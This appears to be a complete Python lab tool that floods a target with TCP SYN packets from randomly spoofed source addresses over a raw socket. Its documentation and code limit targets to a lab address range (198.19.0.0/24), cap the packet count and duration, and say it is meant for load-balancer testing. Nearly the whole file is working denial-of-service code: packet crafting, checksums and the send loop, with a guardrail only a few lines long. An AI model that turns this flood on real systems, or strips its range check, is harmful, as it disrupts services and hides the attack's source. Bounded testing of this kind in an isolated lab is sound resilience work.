#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""Bounded TCP SYN flood from random (spoofed) sources, for the lab only.

    synflood.py --dst 198.19.0.100 --port 80 --count 30000 --seconds 15

Sends at most --count SYNs (<= 1,000,000) in at most --seconds (<= 60) from
a raw socket, sources drawn from 100.64.0.0/10 with random ports, and
prints how many it sent. It refuses a destination outside the lab's VIP
range (198.19.0.0/24): run it inside the lab's client namespace
(ip netns exec NAME-cl1 ...), never towards a real network.
"""
import argparse
import ipaddress
import random
import socket
import struct
import sys
import time

LAB_VIPS = ipaddress.ip_network("198.19.0.0/24")


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02,
                      64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--seconds", type=float, required=True)
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    dst = ipaddress.ip_address(a.dst)
    if dst not in LAB_VIPS:
        sys.exit("synflood: %s is not a lab VIP (%s)" % (dst, LAB_VIPS))
    if not 0 < a.count <= 1000000 or not 0 < a.seconds <= 60:
        sys.exit("synflood: --count 1..1000000, --seconds up to 60")
    rnd = random.Random(a.seed)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    d = dst.packed
    end = time.monotonic() + a.seconds
    sent = 0
    while sent < a.count and time.monotonic() < end:
        for _ in range(min(256, a.count - sent)):
            src = struct.pack("!I", 0x64400000 | rnd.getrandbits(22))
            pkt = syn(src, d, rnd.randint(1024, 65535), a.port,
                      rnd.getrandbits(32))
            try:
                s.sendto(pkt, (a.dst, 0))
                sent += 1
            except OSError:
                time.sleep(0.001)  # socket buffer full: let it drain
    print(sent)


if __name__ == "__main__":
    main()
